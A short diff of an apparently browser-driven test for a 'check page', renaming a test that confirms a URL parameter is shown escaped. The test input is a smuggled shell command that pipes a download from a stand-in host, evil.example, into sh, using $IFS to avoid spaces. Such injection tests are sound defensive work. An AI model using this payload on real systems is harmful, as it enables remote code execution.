@@ -98,7 +98,7 @@ describe('the check page', () => {
     }
   });
 
-  it('copies the collapsed report, and a command that no link can manipulate', async () => {
+  it('copies the collapsed report, and shows a command with the URL escaped', async () => {
     const sent = "https://x/;curl$IFS'evil.example'|sh";
     await page.goto(`${CHECK()}?panel=${encodeURIComponent(sent)}`);
     await untilChecked(page);
